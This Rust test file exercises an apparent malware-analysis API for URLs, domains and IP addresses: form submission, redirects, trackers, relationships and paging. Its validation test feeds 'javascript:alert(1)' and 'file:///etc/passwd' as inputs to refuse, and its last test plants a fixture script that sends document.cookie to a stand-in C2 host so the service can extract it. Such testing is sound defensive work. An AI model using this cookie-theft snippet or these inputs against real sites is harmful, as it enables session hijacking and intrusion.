//! URLs, domains and IP addresses: submitted, analysed, related.

use assay_model::url::CanonicalUrl;
use assay_web::{Config, Fetched, Hop, Recorded};
use axum::body::Body;
use axum::http::Request;
use bytes::Bytes;

use crate::support::{Answer, Service, limits};

const SITE: &str = "https://shop.site.example/a?b=1";

fn url(text: &str) -> CanonicalUrl {
    text.parse().expect("a URL")
}

fn hop(text: &str, status: u16, headers: &[(&str, &str)]) -> Hop {
    let headers = headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    Hop { url: url(text), address: Some([192, 0, 2, 7].into()), status, headers, certificate: None }
}

/// A service for which the web is one site, which sends its callers on to a page with links, a script and an icon.
async fn service() -> Service {
    let page = "<!DOCTYPE html><html><head><title>Shop</title><meta name=a content=b></head><body>\
                <a href=https://other.example/x>o</a><a href=/in>i</a>\
                <script src=https://www.googletagmanager.com/gtag/js?id=G-ABC123XYZ></script>";
    let shop = Fetched {
        hops: vec![
            hop(SITE, 302, &[("location", "/page")]),
            hop("https://shop.site.example/page", 200, &[("content-type", "text/html"), ("set-cookie", "c=d; path=/")]),
        ],
        body: Bytes::from_static(page.as_bytes()),
        unfinished: None,
    };
    let twin =
        Fetched { hops: vec![hop("http://twin.example/", 200, &[("content-type", "text/html")])], ..shop.clone() };
    let web = Recorded::default().with(&url(SITE), shop).with(&url("http://twin.example/"), twin);
    Service::start_on(
        limits(100_000, 1_000_000, 10_000_000),
        Some(assay_web::open(Config::Recorded(web)).expect("a web")),
    )
    .await
}

impl Service {
    async fn post_form(&self, key: &str, kind: &str, form: &str) -> Answer {
        let request = Request::builder().method("POST").uri("/api/v3/urls").header("host", "assay.test");
        let request = request.header("x-apikey", key).header("content-type", kind);
        self.send(request.body(Body::from(form.to_owned())).expect("a request")).await
    }

    pub(crate) async fn submit(&self, key: &str, text: &str) -> String {
        let form = url::form_urlencoded::Serializer::new(String::new()).append_pair("url", text).finish();
        let answer = self.post_form(key, "application/x-www-form-urlencoded", &form).await;
        assert_eq!(answer.status, 200, "{text}: {}", answer.message());
        answer.json["data"]["id"].as_str().expect("an id").to_owned()
    }
}

#[tokio::test]
async fn a_url_is_submitted_in_every_form_that_clients_send() {
    let service = service().await;
    let key = service.key("premium").await;
    let id = url(SITE).id().to_string();
    let escaped = url::form_urlencoded::byte_serialize(SITE.as_bytes()).collect::<String>();
    let parts = format!("--b\r\nContent-Disposition: form-data; name=\"url\"\r\n\r\n{SITE}\r\n--b--\r\n");
    for (kind, form) in [
        ("application/x-www-form-urlencoded", format!("url={escaped}")),
        ("application/x-www-form-urlencoded", format!("url={SITE}")),
        ("text/plain", format!("url={SITE}")),
        ("multipart/form-data; boundary=b", parts),
    ] {
        let answer = service.post_form(&key, kind, &form).await;
        assert_eq!(answer.json["data"]["type"], "analysis", "{form}: {}", answer.json);
        let analysis = answer.json["data"]["id"].as_str().expect("an id");
        let words: Vec<_> = analysis.split('-').collect();
        assert_eq!((words[0], words[1]), ("u", &*id), "clients split it");
    }
    let several = service.post_form(&key, "text/plain", "url=x.example/\ny.example").await;
    assert_eq!(several.json["data"].as_array().map(Vec::len), Some(2), "{}", several.json);
}

#[tokio::test]
async fn what_is_no_url_is_refused_and_nothing_is_written() {
    let service = service().await;
    let key = service.key("premium").await;
    let long = format!("http://x.example/{}", "a".repeat(100_000));
    for text in [
        "",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "http://[fe80::1%25eth0]/",
        "http://a b/",
        &long,
        "x.example\njavascript:x",
    ] {
        let form = url::form_urlencoded::Serializer::new(String::new()).append_pair("url", text).finish();
        let answer = service.post_form(&key, "application/x-www-form-urlencoded", &form).await;
        assert_eq!(answer.status, 400, "{text}");
        assert!(!answer.message().is_empty());
    }
    assert_eq!(service.post_form(&key, "text/plain", &"a".repeat(2 << 20)).await.status, 413);
    assert_eq!(service.app.store().backlog().await.expect("a count").open, 0);
    for (path, status) in [
        ("/urls/!", 400),
        ("/domains/a..b", 400),
        ("/ip_addresses/1.2.3", 400),
        ("/domains/never.example", 404),
        ("/ip_addresses/192.0.2.200", 404),
    ] {
        assert_eq!(service.get(path, &key).await.status, status, "{path}");
    }
    let unknown = "0".repeat(64);
    assert_eq!(service.call("POST", &format!("/api/v3/urls/{unknown}/analyse"), Some(&key)).await.status, 404);
}

#[tokio::test]
async fn an_analysis_of_a_url_can_be_followed_from_its_first_second_to_its_item() {
    let service = service().await;
    let key = service.key("premium").await;
    let id = service.submit(&key, SITE).await;
    let queued = service.get(&format!("/analyses/{id}"), &key).await;
    assert_eq!(queued.json["data"]["attributes"]["status"], "queued");
    assert_eq!(queued.json["meta"]["url_info"]["url"], SITE);
    assert_eq!(queued.json["data"]["attributes"]["stats"].as_object().map(serde_json::Map::len), Some(5));
    assert_eq!(service.submit(&key, SITE).await, id, "while one is under way it is answered");
    service.work().await;
    let done = service.get(&format!("/analyses/{id}"), &key).await;
    assert_eq!(done.json["data"]["attributes"]["status"], "completed");
    let item = service.get(&format!("/analyses/{id}/item"), &key).await;
    assert_eq!(item.json["data"]["type"], "url");
    assert_eq!(item.json["data"]["id"], url(SITE).id().to_string());
    let again = service.call("POST", &format!("/api/v3/urls/{}/analyse", url(SITE).base64()), Some(&key)).await;
    assert_ne!(again.json["data"]["id"], id, "{}", again.json);
    service.work().await;
    let all = service.get(&format!("/urls/{}/analyses", url(SITE).id()), &key).await;
    assert_eq!(all.json["meta"]["count"], 2);
}

#[tokio::test]
async fn a_visit_becomes_attributes_objects_and_links() {
    let service = service().await;
    let key = service.key("premium").await;
    service.submit(&key, SITE).await;
    service.submit(&key, "http://twin.example/").await;
    service.work().await;
    let by_base64 = service.get(&format!("/urls/{}", url(SITE).base64()), &key).await;
    let attributes = &by_base64.json["data"]["attributes"];
    assert_eq!(attributes["title"], "Shop");
    assert_eq!(attributes["last_final_url"], "https://shop.site.example/page");
    assert_eq!(attributes["redirection_chain"].as_array().map(Vec::len), Some(2));
    assert_eq!(attributes["last_http_response_code"], 200);
    assert_eq!(attributes["last_http_response_cookies"]["c"], "d");
    assert_eq!(attributes["html_meta"]["a"][0], "b");
    assert_eq!(attributes["outgoing_links"][0], "https://other.example/x");
    assert_eq!(attributes["trackers"]["Google Tag Manager"][0]["id"], "G-ABC123XYZ");
    assert_eq!((&attributes["has_content"], &attributes["times_submitted"]), (&true.into(), &1.into()));
    let of = async |relationship: &str| {
        let path = format!("/urls/{}/{relationship}", url(SITE).id());
        let answer = service.get(&path, &key).await;
        assert_eq!(answer.status, 200, "{relationship}: {}", answer.message());
        answer.json["data"].clone()
    };
    assert_eq!(of("network_location").await["id"], "shop.site.example");
    assert_eq!(of("last_serving_ip_address").await["id"], "192.0.2.7");
    assert_eq!(of("redirects_to").await[0]["attributes"]["url"], "https://shop.site.example/page");
    let file = of("downloaded_files").await[0].clone();
    assert_eq!(file["id"], attributes["last_http_response_content_sha256"]);
    assert_eq!(file["attributes"]["type_tag"], "html", "the content has an analysis of its own");
    assert_eq!(of("contacted_domains").await[0]["id"], "www.googletagmanager.com");
    assert_eq!(of("urls_related_by_tracker_id").await[0]["attributes"]["url"], "http://twin.example/");
    assert_eq!(of("submissions").await.as_array().map(Vec::len), Some(1));
    let itw = service.get(&format!("/files/{}/itw_urls", file["id"].as_str().expect("an id")), &key).await;
    assert_eq!(itw.json["meta"]["count"], 3, "both URLs and where the redirect led: {}", itw.json);
    let other = service.get("/domains/other.example", &key).await;
    assert_eq!(other.json["data"]["attributes"]["last_analysis_stats"]["malicious"], 0);
}

#[tokio::test]
async fn domains_and_addresses_know_what_was_observed_around_them() {
    let service = service().await;
    let key = service.key("premium").await;
    service.submit(&key, SITE).await;
    service.submit(&key, "http://cdn.site.example/").await;
    service.work().await;
    let ids = async |path: &str| {
        let answer = service.get(path, &key).await;
        assert_eq!(answer.status, 200, "{path}: {}", answer.message());
        let data = answer.json["data"].as_array().cloned().unwrap_or_else(|| vec![answer.json["data"].clone()]);
        data.iter().filter_map(|one| one["id"].as_str().map(ToOwned::to_owned)).collect::<Vec<_>>()
    };
    assert_eq!(ids("/domains/site.example/subdomains").await, ["cdn.site.example", "shop.site.example"]);
    assert_eq!(ids("/domains/shop.site.example/siblings").await, ["cdn.site.example"]);
    assert_eq!(ids("/domains/shop.site.example/parent").await, ["site.example"]);
    assert_eq!(ids("/domains/shop.site.example/resolutions").await, ["192.0.2.7shop.site.example"]);
    assert_eq!(ids("/ip_addresses/192.0.2.7/resolutions").await, ["192.0.2.7shop.site.example"]);
    assert_eq!(ids("/domains/shop.site.example/urls").await.len(), 2);
    assert_eq!(ids("/ip_addresses/192.0.2.7/urls").await.len(), 2);
    let resolution = service.get("/resolutions/192.0.2.7shop.site.example", &key).await;
    assert_eq!(resolution.json["data"]["attributes"]["host_name"], "shop.site.example");
    assert!(resolution.json["data"]["attributes"]["ip_address_last_analysis_stats"]["harmless"].is_number());
}

#[tokio::test]
async fn urls_in_relationships_are_named_and_cursors_work_on_every_form() {
    let service = service().await;
    let key = service.key("premium").await;
    for n in 0..45 {
        service.submit(&key, &format!("http://many.example/{n}")).await;
    }
    let whole = service.get("/domains/many.example?relationships=urls,votes", &key).await;
    let inline = &whole.json["data"]["relationships"]["urls"];
    assert_eq!(inline["data"].as_array().map(Vec::len), Some(20));
    assert!(inline["data"][0]["context_attributes"]["url"].as_str().is_some_and(|url| url.starts_with("http://many")));
    assert_eq!(whole.json["data"]["relationships"]["votes"]["data"], serde_json::json!([]));
    let mut cursor = inline["meta"]["cursor"].as_str().expect("a cursor").to_owned();
    let mut seen = 20;
    for form in ["relationships/urls", "urls"] {
        let page = service.get(&format!("/domains/many.example/{form}?limit=20&cursor={cursor}"), &key).await;
        let items = page.json["data"].as_array().cloned().expect("a list");
        assert!(items.iter().all(|item| item["context_attributes"]["url"].is_string()), "{form}");
        assert_eq!(page.json["meta"]["count"], 45);
        seen += items.len();
        cursor = page.json["meta"]["cursor"].as_str().unwrap_or_default().to_owned();
    }
    assert_eq!((seen, &*cursor), (45, ""));
}

#[tokio::test]
async fn without_a_way_to_the_web_a_url_is_analysed_and_not_fetched() {
    let service = Service::start().await;
    let key = service.key("premium").await;
    let id = service.submit(&key, SITE).await;
    service.work().await;
    let done = service.get(&format!("/analyses/{id}"), &key).await;
    assert_eq!(done.json["data"]["attributes"]["status"], "completed");
    let report = service.get(&format!("/urls/{}", url(SITE).id()), &key).await;
    let attributes = &report.json["data"]["attributes"];
    assert_eq!((&attributes["has_content"], attributes.get("title")), (&false.into(), None));
}

#[tokio::test]
async fn domains_and_addresses_are_analysed_and_known_from_then_on() {
    let service = Service::start().await;
    let key = service.key("premium").await;
    for (path, item, letter) in
        [("domains/new.example", "new.example", 'd'), ("ip_addresses/2001:db8::1", "2001:db8::1", 'i')]
    {
        let answer = service.call("POST", &format!("/api/v3/{path}/analyse"), Some(&key)).await;
        let id = answer.json["data"]["id"].as_str().expect("an id").to_owned();
        assert!(id.starts_with(letter), "{id}");
        service.work().await;
        assert_eq!(service.get(&format!("/analyses/{id}/item"), &key).await.json["data"]["id"], item);
        assert!(
            service.get(&format!("/{path}"), &key).await.json["data"]["attributes"]["last_analysis_date"].is_number()
        );
    }
}

#[tokio::test]
async fn several_urls_at_once_cost_a_request_each() {
    let service = Service::start().await;
    let key = service.key("premium").await;
    service.post_form(&key, "text/plain", "url=http://a.example/\nhttp://b.example/\nhttp://c.example/").await;
    let quotas = service.get("/users/premium/overall_quotas", &key).await;
    assert_eq!(quotas.json["data"]["api_requests_daily"]["user"]["used"], 3);
}

#[tokio::test]
async fn the_scripts_that_stand_in_a_page_become_files_and_lead_to_it() {
    const PAGE: &str = "https://scripts.site.example/";
    let script = "var c2 = 'http://c2.evil-site.com/gate.php'; document.location = c2 + '?' + document.cookie;";
    let body = format!("<html><script>{script}</script><script>{script}</script><script>tiny()</script></html>");
    let hops = vec![hop(PAGE, 200, &[("content-type", "text/html")])];
    let web = Recorded::default().with(&url(PAGE), Fetched { hops, body: Bytes::from(body), unfinished: None });
    let web = assay_web::open(Config::Recorded(web)).expect("a web");
    let service = Service::start_on(limits(100_000, 1_000_000, 10_000_000), Some(web)).await;
    let (key, public) = (service.key("premium").await, service.key("public").await);
    service.submit(&key, PAGE).await;
    service.work().await;

    let id = url(PAGE).id();
    let scripts = service.get(&format!("/urls/{id}/embedded_js_files"), &key).await.json;
    assert_eq!(scripts["meta"]["count"], 1, "{scripts}");
    let file = &scripts["data"][0];
    assert_eq!(file["id"], assay_model::Sha256::of(script.as_bytes()).to_string());
    assert_eq!(file["attributes"]["names"], serde_json::json!(["inline-1.js"]));
    assert!(file["attributes"]["last_analysis_date"].is_i64(), "it was analysed: {file}");
    let file = file["id"].as_str().expect("an id");
    let holders = service.get(&format!("/files/{file}/urls_for_embedded_js"), &key).await.json;
    let context = &holders["data"][0]["context_attributes"];
    let said = serde_json::json!([context["url"], context["filename"], context["embedded"], context["download_url"]]);
    assert_eq!(said, serde_json::json!([PAGE, "inline-1.js", true, PAGE]));
    let named = service.get(&format!("/files/{file}/embedded_urls"), &key).await.json;
    assert_eq!(named["data"][0]["context_attributes"]["url"], "http://c2.evil-site.com/gate.php");
    assert_eq!(service.get(&format!("/urls/{id}/embedded_js_files"), &public).await.status, 403);
}
